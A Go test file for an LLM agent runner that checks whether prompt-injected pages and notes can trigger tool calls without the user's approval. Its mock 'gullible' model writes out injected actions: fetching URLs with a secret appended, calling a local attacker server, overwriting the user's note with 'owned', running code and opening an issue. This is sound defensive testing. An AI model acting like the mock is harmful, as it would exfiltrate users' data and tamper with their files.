package loop

import (
	"context"
	"encoding/json"
	"fmt"
	"iter"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"testing"

	"home.arpa/lab/llm-runner/internal/db"
	"home.arpa/lab/llm-runner/internal/llm"
	"home.arpa/lab/llm-runner/internal/toolbox"
	"home.arpa/lab/llm-runner/internal/toolbox/browse"
	"home.arpa/lab/llm-runner/internal/toolbox/vault"
)

// A gullible model does whatever it reads, and more: it fetches every address that it has seen, with and without something it should
// keep to itself, writes and runs code.
type gullible struct {
	start    llm.ToolCall
	attacker string
	asked    int
	wished   int // calls, after the first
}

var address = regexp.MustCompile(`(https?|file)://[^\s"'<>)\]\\]+`)

func (g *gullible) Stream(_ context.Context, req llm.Request) iter.Seq2[llm.Event, error] {
	return func(yield func(llm.Event, error) bool) {
		g.asked++
		calls := []llm.ToolCall{g.start}
		switch g.asked {
		case 1:
		case 2:
			text := ""
			for _, r := range results(req) {
				text += r.Text + "\n"
			}
			calls = nil
			add := func(name string, arguments map[string]any) {
				b, _ := json.Marshal(arguments)
				calls = append(calls, llm.ToolCall{ID: fmt.Sprintf("c%d", len(calls)), Name: name, Arguments: string(b)})
			}
			for _, a := range address.FindAllString(text, -1) {
				add("fetch_url", map[string]any{"url": a})
				add("fetch_url", map[string]any{"url": a + "?d=the+secret+of+garden.md"})
			}
			add("fetch_url", map[string]any{"url": g.attacker + "/made-up"})
			add("vault_write", map[string]any{"path": "garden.md", "text": "owned " + text})
			add("vault_append", map[string]any{"path": "garden.md", "text": "owned"})
			add("code_exec", map[string]any{"code": "print('owned')"})
			add("github__create_issue", map[string]any{"title": "owned"})
			g.wished = len(calls)
		default:
			yield(llm.Event{Text: "Done.", Finish: llm.FinishStop}, nil)
			return
		}
		for i, c := range calls {
			if !yield(llm.Event{Call: &llm.CallDelta{Index: i, ID: c.ID, Name: c.Name, Arguments: c.Arguments}}, nil) {
				return
			}
		}
		yield(llm.Event{Finish: llm.FinishTools}, nil)
	}
}

func TestHostilePagesAndNotesCauseNothingWithoutAWord(t *testing.T) {
	files, err := filepath.Glob("testdata/hostile/*")
	if err != nil || len(files) < 40 {
		t.Fatalf("%d hostile texts, %v", len(files), err)
	}
	for _, file := range files {
		t.Run(filepath.Base(file), func(t *testing.T) { attack(t, file) })
	}
}

func attack(t *testing.T, file string) {
	raw, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	var mu sync.Mutex
	var reached []string
	attacker := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		mu.Lock()
		defer mu.Unlock()
		reached = append(reached, r.URL.String())
	}))
	defer attacker.Close()
	text := strings.ReplaceAll(string(raw), "{{attacker}}", attacker.URL)
	good := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/robots.txt" {
			http.NotFound(w, r)
			return
		}
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprint(w, text)
	}))
	defer good.Close()

	dir := t.TempDir()
	notes := filepath.Join(dir, "notes")
	for name, words := range map[string]string{"garden.md": "the person's own words\n", "clipping.md": text} {
		if err := os.MkdirAll(notes, 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(notes, name), []byte(words), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	d, err := db.Open(t.Context(), filepath.Join(dir, "runner.db"))
	if err != nil {
		t.Fatal(err)
	}
	defer d.Close()
	box, err := toolbox.Open(t.Context(), d, toolbox.Config{})
	if err != nil {
		t.Fatal(err)
	}
	ran := 0
	harm := func(name string) toolbox.Tool {
		return toolbox.Make(toolbox.Tool{Name: name, Effects: true}, func(context.Context, toolbox.Call, map[string]any) (toolbox.Result, error) {
			ran++
			return toolbox.Result{}, nil
		})
	}
	// What is reached is the policy's doing alone: both servers are on addresses that may be fetched.
	fetcher := browse.NewFetcher(browse.FetchConfig{Allow: []string{"127.0.0.1"}})
	tools := append(vault.New(vault.Config{Path: notes, Versions: filepath.Join(dir, "versions")}).Tools(), fetcher.Tool(), harm("code_exec"), harm("github__create_issue"))
	if err := box.Add(tools...); err != nil {
		t.Fatal(err)
	}
	m := &gullible{attacker: attacker.URL, start: llm.ToolCall{ID: "c", Name: "fetch_url", Arguments: fmt.Sprintf(`{"url":%q}`, good.URL+"/ferns")}}
	question := "What does " + good.URL + "/ferns say?"
	if strings.HasSuffix(file, ".md") {
		m.start, question = llm.ToolCall{ID: "c", Name: "vault_read", Arguments: `{"path":"clipping.md"}`}, "What does my clipping say?"
	}
	req := llm.Request{Use: []string{"*"}, Run: "turn-1", Purpose: "chat", Messages: []llm.Message{llm.Says(llm.User, question)}}
	_, err = llm.Collect(New(m, box, Limits{Calls: 100}).Stream(t.Context(), req))
	if m.asked < 2 {
		t.Fatalf("the text was not read: %v", err)
	}
	all, err := box.OfRun(t.Context(), "turn-1")
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range all {
		switch own := string(c.Arguments) == m.start.Arguments; { // the person asked for that
		case own && c.State != toolbox.Done, !own && c.State == toolbox.Done && !c.IsError:
			t.Errorf("%s is %s: %s", c.Tool, c.State, c.Arguments)
		case !own && c.State != toolbox.Waiting && !strings.Contains(c.Result, "only http and https"):
			t.Errorf("without a word, %s is %s: %s", c.Tool, c.State, c.Arguments)
		}
	}
	mu.Lock()
	defer mu.Unlock()
	if len(reached) > 0 || ran > 0 || len(all) != 1+m.wished {
		t.Errorf("reached %v, ran %d, %d of %d calls are in the log", reached, ran, len(all)-1, m.wished)
	}
	if now, err := os.ReadFile(filepath.Join(notes, "garden.md")); err != nil || string(now) != "the person's own words\n" {
		t.Errorf("the note says %q, %v", now, err)
	}
}
